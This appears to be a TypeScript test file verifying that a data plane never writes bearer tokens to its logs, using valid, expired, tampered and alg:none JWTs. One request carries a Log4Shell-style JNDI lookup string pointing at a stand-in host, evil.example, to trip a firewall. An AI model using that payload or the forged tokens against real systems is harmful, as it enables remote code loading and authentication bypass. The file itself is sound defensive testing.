/** Bearer tokens never reach the data plane's logs, whatever becomes of the request. */
import { expect } from 'chai';
import pino from 'pino';
import { loadOrCreateDevIssuer } from '../src/auth/dev-issuer.js';
import { adminClient, startTestDataPlane, type TestDataPlane } from '../test-support/dataplane.js';
import { call, type CallOptions } from '../test-support/http.js';

const ISSUER = 'http://localhost:8080/.well-known/dev-issuer';
const AUDIENCE = 'data-access-local';
const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

describe('logs never hold a token', function () {
  this.timeout(60000);
  const lines: string[] = [];
  const tokens: Record<string, string> = {};
  let dp: TestDataPlane;

  before(async () => {
    // Every level, into memory: pino writes each line to the stream as it logs it.
    const logger = pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) });
    dp = await startTestDataPlane({ logger });
    const issuer = await loadOrCreateDevIssuer(dp.dataDir, { issuer: ISSUER, audience: AUDIENCE });
    const now = Math.floor(Date.now() / 1000);
    tokens.valid = await issuer.sign({ sub: 'alice', email: 'alice@example.com' });
    tokens.expired = await issuer.sign({ sub: 'alice', extraClaims: { iat: now - 7200, exp: now - 3600 } });
    const [header, payload, signature] = tokens.valid.split('.');
    tokens.tampered = `${header}.${b64({ ...JSON.parse(Buffer.from(payload, 'base64url').toString()), sub: 'mallory' })}.${signature}`;
    tokens.algNone = `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'alice', iss: ISSUER, aud: [AUDIENCE], iat: now, exp: now + 600 })}.`;
    const created = await adminClient(dp)({ path: '/demo', body: { create: { schema: 'demo.Company', id: 'l1', data: { name: 'Logs' } } } });
    expect(created.status).to.equal(201);
  });
  after(async () => dp?.stop());

  const bearer = (name: string) => ({ authorization: `Bearer ${tokens[name]}` });
  const requests: [string, () => CallOptions, number][] = [
    ['valid token', () => ({ host: 'public.localhost', path: '/demo/demo.Company/l1', headers: bearer('valid') }), 200],
    ['valid token, POST', () => ({ host: 'public.localhost', path: '/demo', headers: bearer('valid'), body: { read: { schema: 'demo.Company', id: 'l1' } } }), 200],
    ['expired token', () => ({ host: 'public.localhost', path: '/demo/demo.Company/l1', headers: bearer('expired') }), 401],
    ['tampered token', () => ({ host: 'public.localhost', path: '/demo/demo.Company/l1', headers: bearer('tampered') }), 401],
    ['alg: none token', () => ({ host: 'public.localhost', path: '/demo/echo', headers: bearer('algNone') }), 401],
    ['token in the query string', () => ({ host: 'public.localhost', path: `/demo/demo.Company/l1?access_token=${tokens.valid}&id_token=${tokens.expired}` }), 401],
    ['token on the iam gateway', () => ({ host: 'iam.localhost', path: '/demo/demo.Company/l1', headers: bearer('valid') }), 401],
    [
      'firewall-blocked request with a token',
      () => ({ host: 'public.localhost', path: '/demo/demo.Company/l1', headers: { ...bearer('valid'), 'x-api-version': '${jndi:ldap://evil.example/a}' } }),
      403,
    ],
  ];

  const requestIds: string[] = [];
  for (const [name, options, status] of requests) {
    it(`${name} → ${status}, with one access-log line`, async () => {
      const res = await call(dp.url, options());
      expect(res.status, res.text).to.equal(status);
      const reqId = res.headers['x-request-id'] as string;
      expect(reqId).to.be.a('string');
      requestIds.push(reqId);
      // The access-log line is written when the response finishes, which may be a moment after the client has it.
      const accessLines = () => lines.map((line) => JSON.parse(line)).filter((entry) => entry.msg === 'request' && entry.reqId === reqId);
      for (let wait = 0; wait < 50 && accessLines().length === 0; wait++) await new Promise((resolve) => setTimeout(resolve, 20));
      const access = accessLines();
      expect(access, 'access-log lines for this request').to.have.length(1);
      expect(access[0]).to.include({ status });
    });
  }

  it('holds no token, payload or signature in any line', () => {
    expect(requestIds).to.have.length(requests.length);
    expect(lines.length).to.be.greaterThan(requests.length);
    const secrets = Object.entries(tokens).flatMap(([name, token]) => {
      const [, payload, signature] = token.split('.');
      return [[`${name} token`, token], [`${name} payload`, payload], [`${name} signature`, signature]].filter(([, text]) => text);
    });
    for (const line of lines) {
      for (const [what, text] of secrets) expect(line.includes(text), `${what} in log line ${line.slice(0, 300)}`).to.equal(false);
    }
  });
});
